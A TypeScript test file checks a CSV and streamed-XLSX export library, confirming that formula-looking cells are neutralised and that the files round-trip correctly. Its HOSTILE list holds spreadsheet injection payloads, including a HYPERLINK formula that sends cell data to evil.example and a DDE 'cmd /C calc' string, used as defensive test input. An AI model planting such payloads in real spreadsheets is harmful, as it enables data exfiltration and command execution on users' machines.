import Papa from "papaparse";
import { inflateSync, unzipSync } from "fflate";
import * as XLSX from "xlsx";
import { describe, expect, it } from "vitest";
import { CSV_BOM, csvRecord, type Cell } from "../../src/lib/csv";
import { crc32, xlsxEnd, xlsxRows, xlsxStart, type ColumnType } from "../../src/lib/xlsx";

const HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tTAB", "\rCR", "plain", 'quote " and, comma', "line\r\nbreak", "ünïcödé ✓ 🎉", ""];

const concat = (parts: Uint8Array[]) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
};

describe("CSV (RFC 4180)", () => {
  it("parses back to the same cells with a CSV parser; formula-looking text is neutralised, numbers stay numbers", () => {
    const rows: Cell[][] = [["text", "number"], ...HOSTILE.map((t, i): Cell[] => [t, -i])];
    const text = CSV_BOM + rows.map(csvRecord).join("");
    expect(text.endsWith("\r\n")).toBe(true);
    const parsed = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: false }).data.filter((r) => r.length > 1);
    expect(parsed).toHaveLength(rows.length);
    const cells = parsed.slice(1).map((r) => r[0]);
    expect(cells).toEqual(HOSTILE.map((t) => (/^[=+\-@\t\r]/.test(t) ? `'${t}` : t)));
    // No cell a spreadsheet would evaluate.
    for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    expect(parsed.slice(1).map((r) => r[1])).toEqual(HOSTILE.map((_, i) => String(-i)));
  });
});

describe("XLSX written in pieces", () => {
  const types: ColumnType[] = ["text", "number", "boolean", "datetime"];
  function build(pieces: Cell[][][]) {
    const start = xlsxStart("Tickets", ["text", "number", "flag", "when"]);
    // The state goes through JSON between pieces, as it does through D1 between queue messages.
    let state = JSON.parse(JSON.stringify(start.state));
    const parts = [start.bytes];
    for (const rows of pieces) {
      parts.push(xlsxRows(state, rows, types));
      state = JSON.parse(JSON.stringify(state));
    }
    parts.push(xlsxEnd(state));
    return concat(parts);
  }

  it("is a zip the SheetJS reader opens, with every cell as written, text never a formula", () => {
    const rows: Cell[][] = HOSTILE.map((t, i) => [t, i * 1.5, i % 2 === 0, "2026-03-29T01:30:00.000Z"]);
    const file = build([rows.slice(0, 4), [], rows.slice(4)]);
    const wb = XLSX.read(file, { type: "array", cellDates: true, cellFormula: true });
    expect(wb.SheetNames).toEqual(["Tickets"]);
    const sheet = wb.Sheets.Tickets!;
    const back = XLSX.utils.sheet_to_json<Record<string, unknown>>(sheet, { defval: null, raw: true });
    expect(back).toHaveLength(rows.length);
    back.forEach((r, i) => {
      expect(r.text ?? "").toBe(HOSTILE[i]);
      expect(r.number).toBe(i * 1.5);
      expect(r.flag).toBe(i % 2 === 0);
      expect((r.when as Date).toISOString()).toBe("2026-03-29T01:30:00.000Z");
    });
    for (const cell of Object.values(sheet)) if (cell && typeof cell === "object" && "t" in cell) expect((cell as { f?: unknown }).f).toBeUndefined();
  });

  it("keeps a literal _xHHHH_ as typed and drops characters XML cannot hold", () => {
    const file = build([[["_x0041_ stays", 1, true, null], ["bell\u0007here", 2, false, null]]]);
    const back = XLSX.utils.sheet_to_json<Record<string, unknown>>(XLSX.read(file, { type: "array" }).Sheets.Tickets!, { defval: null });
    expect(back[0]!.text).toBe("_x0041_ stays");
    expect(back[1]!.text).toBe("bell\ufffdhere");
  });

  it("the worksheet's deflate pieces form one stream whose CRC-32 the zip records, also when a piece is long", () => {
    const long = "x".repeat(3000); // a compressor's output split over its push and its flush
    const file = build([[["a", 1, true, null]], [[long, 2, false, null]], [[long, 3, false, null]]]);
    const files = unzipSync(file);
    const xml = new TextDecoder().decode(files["xl/worksheets/sheet1.xml"]!);
    expect(xml).toMatch(/^<\?xml/);
    expect(xml.endsWith("</sheetData></worksheet>")).toBe(true);
    expect(Object.keys(files).sort()).toEqual(["[Content_Types].xml", "_rels/.rels", "xl/_rels/workbook.xml.rels", "xl/styles.xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml"]);
    expect(crc32(new TextEncoder().encode("123456789"))).toBe(0xcbf43926); // the standard check value
    expect(inflateSync).toBeTypeOf("function");
  });
});
